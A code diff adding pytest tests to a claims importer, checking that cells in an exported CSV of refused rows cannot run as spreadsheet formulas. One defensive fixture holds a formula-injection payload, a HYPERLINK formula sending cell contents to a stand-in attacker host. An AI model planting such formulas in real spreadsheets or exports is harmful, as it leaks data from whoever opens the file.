@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from datetime import date
 from pathlib import Path
 
@@ -9,7 +10,7 @@ import pytest
 from openpyxl import Workbook
 
 from assistant.claims.importers import read_rows
-from assistant.claims.records import ImportRemark
+from assistant.claims.records import ImportRemark, Refused
 from assistant.claims.refused_file import refused_rows_table
 from assistant.core.errors import ClaimError
 from tests.assistant.claims.reported import imported, imported_text, reported
@@ -388,6 +389,38 @@ def test_the_refused_rows_are_a_table_to_mend():
         "Bus fares, tolls and parking fell by 30 percent.,False,https://checks.example.org/b"
     )
     assert lines[2] == ",row 7: two claims with one id"
+
+
+@pytest.mark.threat("publisher")
+def test_no_cell_of_a_refused_row_is_a_formula():
+    """A spreadsheet runs what begins with =, +, - or @, also after a space."""
+    cells = {"=1+1": "x", "claim": '=HYPERLINK("http://evil.example/?"&A1)', "b": " @SUM(A1)"}
+
+    table = refused_rows_table([Refused("=file:2", "-reason", cells)], ["+line"])
+
+    lines = list(csv.reader(table.splitlines()))
+    assert lines == [
+        ["place", "reason", "'=1+1", "claim", "b"],
+        ["'=file:2", "'-reason", "x", '\'=HYPERLINK("http://evil.example/?"&A1)', "' @SUM(A1)"],
+        ["", "'+line"],
+    ]
+
+
+@pytest.mark.parametrize("statement", ["-5 degrees were measured on Monday.", "@ministry paid it."])
+def test_a_refused_row_that_is_imported_again_has_its_own_words(tmp_path, statement):
+    cells = {"statement": statement, "rating": "False", "url": "https://checks.example.org/b"}
+    table = refused_rows_table([Refused("file:2", "no rating.", cells)], [])
+
+    result = imported_text(tmp_path, table)
+
+    assert [claim.statement for claim in result.claims] == [statement]
+
+
+def test_an_apostrophe_in_another_table_stays(tmp_path):
+    statement = "'+1' is the country code of Canada."
+    result = imported_text(tmp_path, f"claim,rating\n{statement},True\n")
+
+    assert [claim.statement for claim in result.claims] == [statement]
 
 
 def test_a_header_that_is_repeated_below_is_no_claim(tmp_path):
